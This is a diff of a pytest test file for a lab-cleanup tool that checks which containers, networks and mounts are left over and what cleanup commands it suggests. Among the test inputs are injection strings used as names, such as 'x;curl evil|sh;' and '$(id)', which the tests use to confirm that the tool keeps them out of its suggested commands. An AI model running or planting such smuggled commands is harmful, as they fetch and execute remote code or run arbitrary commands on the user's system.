@@ -32,7 +32,10 @@ OURS = found(
     networks=[("desi-lab-desi", "desi")],
     mounts=[("/m/one", ["desi"], ["desi"])],
 )
-OLD = found(lab(), containers=[("desi-lab-old-sample", "old")], networks=[("desi-lab-old", "old")])
+OLD = found(lab(), containers=[("c", "old")], networks=[("desi-lab-old", "old")])
+DOWN = "./lab down -e lab_name=old -e lab_where=here"
+OF_NOBODY = [("Leftovers", WARNING, "network n", "see whose it is")]
+UNIT = "desi-lab-mount-two-96493d.service"
 
 
 @pytest.mark.parametrize(
@@ -40,10 +43,7 @@ OLD = found(lab(), containers=[("desi-lab-old-sample", "old")], networks=[("desi
     [
         (judge_labs(found(lab(), STOPPED)), [("Labs here", OK, "desi (running), two (stopped)", "")]),
         (judge_labs(found()), [("Labs here", OK, "none", "")]),
-        (
-            judge_labs(found(engine=False, reason="It is not running.")),
-            [("Labs here", SKIPPED, "not looked at: it is not running", "")],
-        ),
+        (judge_labs(found(engine=False, reason="Off.")), [("Labs here", SKIPPED, "not looked at: off", "")]),
         (judge_labs({"failed": True, "msg": "timed out"}), [("Labs here", SKIPPED, "not looked at: ", "")]),
         (judge_labs(found(lab(), SILENT)), [("Lab two", BROKEN, "127.0.0.1:8888", "-e lab_name=two")]),
         (
@@ -51,24 +51,8 @@ OLD = found(lab(), containers=[("desi-lab-old-sample", "old")], networks=[("desi
             [("Lab desi", BROKEN, "127.0.0.1:8888", "wait"), ("Lab desi", BROKEN, "/m", "mounts again")],
         ),
         (judge_leftovers(OURS, []), [("Leftovers", OK, "none", "")]),
-        (
-            judge_leftovers(OLD, []),
-            [
-                (
-                    "Leftovers",
-                    WARNING,
-                    "container desi-lab-old-sample, network desi-lab-old",
-                    "./lab down -e lab_name=old -e lab_where=here",
-                )
-            ],
-        ),
-        *[
-            (
-                judge_leftovers(found(networks=[("n", name)]), []),
-                [("Leftovers", WARNING, "network n", "see whose it is")],
-            )
-            for name in ("x;curl evil|sh;", "a -e lab_purge=true", "")
-        ],
+        (judge_leftovers(OLD, []), [("Leftovers", WARNING, "container c, network desi-lab-old", DOWN)]),
+        *[(judge_leftovers(found(networks=[("n", name)]), []), OF_NOBODY) for name in ("x;curl evil|sh;", "a b", "")],
         # Without an engine, nobody knows which mounts are used.
         (judge_leftovers(found(engine=False, mounts=[("/m/two", [], [])]), []), [("Leftovers", OK, "none", "")]),
     ],
@@ -87,13 +71,7 @@ def test_labs_and_what_is_left_of_them_are_judged(findings, expected):
         # A removal of the lab that is here would take another mount.
         ([], ["desi"], (), False, "sudo umount -l /m/two/.bucket"),
         ([], [], (), False, "sudo umount -l /m/two/.bucket"),
-        (
-            [],
-            [],
-            ("desi-lab-mount-two-96493d.service",),
-            False,
-            "sudo systemctl disable --now desi-lab-mount-two-96493d.service",
-        ),
+        ([], [], (UNIT,), False, f"sudo systemctl disable --now {UNIT}"),
         ([], ["$(id)"], (), False, "sudo umount -l /m/two/.bucket"),
         ([], ["gone"], (), True, "./lab down -e lab_name=gone -e lab_where=here"),
         ([], [], (), True, "sudo umount -l /m/two/.bucket"),
